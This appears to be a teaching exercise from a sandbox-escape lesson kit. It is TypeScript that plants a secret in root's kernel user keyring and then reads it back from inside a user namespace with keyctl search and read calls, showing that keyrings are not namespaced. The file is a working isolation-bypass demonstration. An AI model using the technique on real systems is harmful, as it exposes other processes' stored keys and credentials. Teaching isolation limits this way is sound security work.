/** Out of lesson 7: the kernel's keyrings belong to a user, not to a namespace. User 0 here is user 0 there. */
import { type BreakOut, execute } from 'tsrun/lessons/kit.ts';
import { syscall } from 'tsrun/linux/ffi.ts';
import { check } from 'tsrun/linux/fs.ts';

const secret = 'a secret in the keyring of root\n';
const name = 'tsrun-lesson';
const KEY_SPEC_USER_KEYRING = -4;
const KEYCTL_SETPERM = 5;
const KEYCTL_UNLINK = 9;
const KEYCTL_SEARCH = 10;
const KEYCTL_READ = 11;
/** Everything for who possesses it and for its user. */
const permissions = 0x3f3f0000;

export default {
  prepare() {
    const bytes = Buffer.from(secret);
    const key = check(syscall('add_key', 'user', name, bytes, bytes.length, KEY_SPEC_USER_KEYRING), 'add_key');
    check(syscall('keyctl', KEYCTL_SETPERM, key, permissions), 'keyctl');
    return () => void syscall('keyctl', KEYCTL_UNLINK, key, KEY_SPEC_USER_KEYRING);
  },
  attack(b) {
    const key = b.slot('key');
    const bytes = b.reserve(256, 'its contents');
    b.call('keyctl', [KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, b.text('user'), b.text(name), 0], {
      title: 'look for a key of root',
      store: key,
    });
    b.call('keyctl', [KEYCTL_READ, key, bytes, 256], { title: 'read it' });
    b.call('write', [1, bytes, secret.length], { title: 'print it' });
    execute(b, ['true']);
  },
} satisfies BreakOut;
